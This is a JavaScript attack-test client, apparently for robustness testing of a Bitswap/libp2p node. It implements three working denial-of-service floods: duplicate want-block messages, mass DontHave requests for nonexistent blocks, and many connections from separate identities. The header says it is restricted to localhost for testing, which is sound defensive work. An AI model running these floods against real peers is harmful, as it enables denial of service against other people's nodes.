// A hostile js-libp2p client (the libp2p of the Helia harness, a stack we did not write) for the attack tests.
// TCP + noise + yamux on 127.0.0.1 only, no discovery, no routers: it reaches only the node a test names.
//
//   node hostile.mjs dup-wants MULTIADDR CID [STREAMS]  STREAMS streams (default 4), each carrying one message of
//                                                       4,096 want-block entries for CID
//   node hostile.mjs dont-have MULTIADDR [COUNT]        COUNT wants (default 20,000, 1,000 a message) for blocks
//                                                       that exist nowhere, all asking for DontHave
//   node hostile.mjs connections MULTIADDR [COUNT]      COUNT identities (default 40) each open a connection
//
// Prints one JSON line {"attack", "sent", "answers", "closed"} and exits: `answers` counts answer bytes read,
// `closed` whether the node reset or closed our streams or connections.
import { noise } from '@libp2p/noise'
import { tcp } from '@libp2p/tcp'
import { yamux } from '@libp2p/yamux'
import { multiaddr } from '@multiformats/multiaddr'
import { createLibp2p } from 'libp2p'
import { CID } from 'multiformats/cid'
import { sha256 } from 'multiformats/hashes/sha2'

const BITSWAP = '/ipfs/bitswap/1.2.0'
const [attack, addr, arg, extra] = process.argv.slice(2)

function varint (n) {
  const out = []
  while (n >= 0x80) { out.push((n & 0x7f) | 0x80); n = Math.floor(n / 128) }
  out.push(n)
  return Uint8Array.from(out)
}

function concat (parts) {
  const len = parts.reduce((a, p) => a + p.length, 0)
  const out = new Uint8Array(len)
  let at = 0
  for (const p of parts) { out.set(p, at); at += p.length }
  return out
}

// A protobuf field: key, then the length-delimited bytes or the varint.
const bytesField = (n, b) => concat([varint((n << 3) | 2), varint(b.length), b])
const intField = (n, v) => concat([varint(n << 3), varint(v)])

// A Bitswap message of want-block entries (sendDontHave set), as a length-prefixed frame.
function wantFrame (cids) {
  const entries = cids.map(c => bytesField(1, concat([
    bytesField(1, c.bytes), intField(2, 1), intField(4, 0), intField(5, 1)
  ])))
  const body = bytesField(1, concat(entries))
  return concat([varint(body.length), body])
}

async function node () {
  return createLibp2p({
    addresses: { listen: [] },
    transports: [tcp()],
    connectionEncrypters: [noise()],
    streamMuxers: [yamux()],
    peerDiscovery: []
  })
}

// Send `frames` on a new stream and count what comes back until the node ends it or `ms` pass.
async function flood (p2p, target, frames, ms) {
  const stream = await p2p.dialProtocol(target, BITSWAP, { signal: AbortSignal.timeout(20_000) })
  let closed = false
  let answers = 0
  const reading = (async () => {
    try {
      for await (const chunk of stream) answers += chunk.byteLength
    } catch { closed = true }
  })()
  for (const f of frames) {
    if (!stream.send(f)) await stream.onDrain({ signal: AbortSignal.timeout(ms) }).catch(() => { closed = true })
  }
  await Promise.race([reading, new Promise(resolve => setTimeout(resolve, ms))])
  if (stream.status !== 'open') closed = true
  return { answers, closed }
}

const target = multiaddr(addr)
const out = { attack, sent: 0, answers: 0, closed: false }
if (attack === 'dup-wants') {
  const p2p = await node()
  const cid = CID.parse(arg)
  const streams = Number(extra ?? 4)
  const frame = wantFrame(new Array(4096).fill(cid))
  const results = await Promise.all(Array.from({ length: streams }, () => flood(p2p, target, [frame], 5_000).catch(() => ({ answers: 0, closed: true }))))
  out.sent = streams * 4096
  for (const r of results) { out.answers += r.answers; out.closed ||= r.closed }
  out.closed ||= p2p.getConnections().length === 0
  await p2p.stop()
} else if (attack === 'dont-have') {
  const p2p = await node()
  const count = Number(arg ?? 20_000)
  const frames = []
  for (let i = 0; i < count; i += 1000) {
    const cids = []
    for (let j = i; j < Math.min(count, i + 1000); j++) {
      const digest = await sha256.digest(new TextEncoder().encode(`nowhere-${j}-${Math.random()}`))
      cids.push(CID.createV1(0x55, digest))
    }
    frames.push(wantFrame(cids))
  }
  const r = await flood(p2p, target, frames, 5_000).catch(() => ({ answers: 0, closed: true }))
  out.sent = count
  out.answers = r.answers
  out.closed = r.closed
  await p2p.stop()
} else if (attack === 'connections') {
  const count = Number(arg ?? 40)
  const nodes = await Promise.all(Array.from({ length: count }, () => node()))
  const dialed = await Promise.all(nodes.map(n => n.dial(target, { signal: AbortSignal.timeout(20_000) }).then(() => true, () => false)))
  out.sent = count
  out.answers = dialed.filter(Boolean).length
  out.closed = dialed.some(d => !d)
  await Promise.all(nodes.map(n => n.stop()))
} else {
  console.error('usage: node hostile.mjs dup-wants|dont-have|connections MULTIADDR [ARG]')
  process.exit(2)
}
console.log(JSON.stringify(out))
process.exit(0)
